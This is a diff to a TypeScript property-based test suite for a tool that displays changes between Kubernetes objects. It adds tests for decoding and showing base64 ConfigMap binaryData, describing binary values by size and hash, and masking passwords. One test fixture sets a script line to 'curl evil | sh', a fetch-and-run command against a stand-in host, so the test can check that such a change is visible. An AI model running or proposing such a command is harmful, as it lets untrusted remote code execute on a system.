@@ -112,6 +112,17 @@ const pod = fc.record(
   { requiredKeys: [], noNullPrototype: true },
 );
 const map = fc.dictionary(names, text, { maxKeys: 4, noNullPrototype: true });
+const encodedText = text.map((value) => Buffer.from(value).toString('base64'));
+/** As the API server keeps it, and what it would never take. */
+const encoded = fc.dictionary(
+  names,
+  fc.oneof(
+    encodedText,
+    fc.uint8Array({ maxLength: 8 }).map((bytes) => Buffer.from(bytes).toString('base64')),
+    text,
+  ),
+  { maxKeys: 4, noNullPrototype: true },
+);
 const { any } = fc.letrec<{ any: Json }>((tie) => ({
   any: fc.oneof(
     { depthSize: 'small', withCrossShrink: true },
@@ -124,7 +135,7 @@ const { any } = fc.letrec<{ any: Json }>((tie) => ({
 /** Kinds, each with what its objects may hold. */
 const contents: Readonly<Record<string, fc.Arbitrary<JsonObject>>> = {
   Deployment: fc.record({ spec: fc.record({ template: fc.record({ spec: pod }) }) }),
-  ConfigMap: fc.record({ data: map }),
+  ConfigMap: fc.record({ data: map, binaryData: encoded }),
   Service: fc.record({ metadata: fc.record({ annotations: map }), spec: fc.record({ selector: map, type: text }) }),
   Widget: fc.record({ spec: any, pod: fc.record({ template: fc.record({ spec: pod }) }) }),
 };
@@ -158,6 +169,20 @@ const leaves = (value: Json | undefined): readonly Json[] =>
     : value === undefined
       ? []
       : [value];
+
+/** What is to be read in a text: of base64 what it says. */
+const readable = (content: JsonObject | undefined): Json | undefined =>
+  content !== undefined && isObject(content['binaryData'])
+    ? {
+        ...content,
+        binaryData: Object.fromEntries(
+          Object.entries(content['binaryData']).map(([key, value]) => [
+            key,
+            Buffer.from(String(value), 'base64').toString(),
+          ]),
+        ),
+      }
+    : content;
 
 /** Whether two texts from which nothing is missing are the same although the contents are not, or the other way round. */
 const misled = (one: Case, other: JsonObject): boolean => {
@@ -196,8 +221,10 @@ describe('a text from which nothing is missing', () => {
     fc.assert(
       fc.property(cases, (one) => {
         const shown = ofCase(one, one.to).text;
-        const known = new Set(leaves(one.from).map(canonicalJson));
-        const come = leaves(one.to).filter((leaf) => typeof leaf === 'string' && /^[a-z;:/. |-]+$/i.test(leaf));
+        const known = new Set(leaves(readable(one.from)).map(canonicalJson));
+        const come = leaves(readable(one.to)).filter(
+          (leaf) => typeof leaf === 'string' && /^[a-z;:/. |-]+$/i.test(leaf),
+        );
         if (!isWhole(shown)) return;
         for (const leaf of come.filter((each) => !known.has(canonicalJson(each)))) expect(shown).toContain(leaf);
       }),
@@ -278,5 +305,55 @@ describe('any text', () => {
       }),
       { numRuns: 200 },
     );
+  });
+});
+
+describe('binaryData of a ConfigMap', () => {
+  const encode = (value: string | readonly number[]): string => Buffer.from(value as string).toString('base64');
+  const shownFor = (from: string | undefined, to: string | undefined, key = 'run.sh') => {
+    const content = (value: string | undefined): JsonObject => ({
+      data: { kept: 'yes' },
+      ...(value === undefined ? {} : { binaryData: { [key]: value } }),
+    });
+    return deltaOf({ kind: 'ConfigMap', from: content(from), to: content(to) });
+  };
+
+  it.each<[what: string, from: string | undefined, to: string | undefined, says: readonly string[]]>([
+    ['one line as it is', encode('sleep 1'), encode('curl evil | sh'), ['sleep 1 → curl evil | sh']],
+    ['text of several lines by line', encode('a\nb\n'), encode('a\nc\n'), ['- 2: b', '+ 2: c']],
+    ['text that comes', undefined, encode('größer'), ['(none) → größer']],
+    ['nothing as nothing', encode('a'), '', ['a → ""']],
+    [
+      'what looks like a size as a quoted text',
+      encode('a'),
+      encode('(1 byte, sha256:0)'),
+      ['a → "(1 byte, sha256:0)"'],
+    ],
+  ])('is shown as text: %s', (_, from, to, says) => {
+    const { text: shown } = shownFor(from, to);
+    for (const each of says) expect(shown).toContain(each);
+    expect(isWhole(shown)).toBe(true);
+  });
+
+  it.each<[what: string, to: string, says: RegExp]>([
+    ['no text', encode([0xff, 0xfe, 0x41]), /sleep 1 → \(3 bytes, sha256:[0-9a-f]{64}\)/],
+    ['a control character', encode('a\u0007'), /sleep 1 → \(2 bytes, sha256:[0-9a-f]{64}\)/],
+    ['a mark of byte order before text', encode('\ufeffa'), /sleep 1 → "?\\u\{feff\}a"?/],
+    ['no base64', 'a=b', /sleep 1 → \(3 characters that are no base64, sha256:[0-9a-f]{64}\)/],
+  ])('says what it is where it is %s', (_, to, says) => {
+    expect(shownFor(encode('sleep 1'), to).text).toMatch(says);
+  });
+
+  it('counts what it does not show, in both', () => {
+    const [from, to] = [encode([0xff, 1]), encode([0xff, 2])];
+    const { changes, text: shown } = shownFor(from, to);
+    expect(changes).toMatchObject([{ cutCharacters: from.length + to.length }]);
+    expect(shown).toMatch(/^cut +8 characters of long values/m);
+  });
+
+  it('hides a credential as in data', () => {
+    const { changes, text: shown } = shownFor(encode('hunter2'), encode('hunter3'), 'db.password');
+    expect(shown).not.toContain('hunter');
+    expect(changes).toMatchObject([{ hidden: 2 }]);
   });
 });
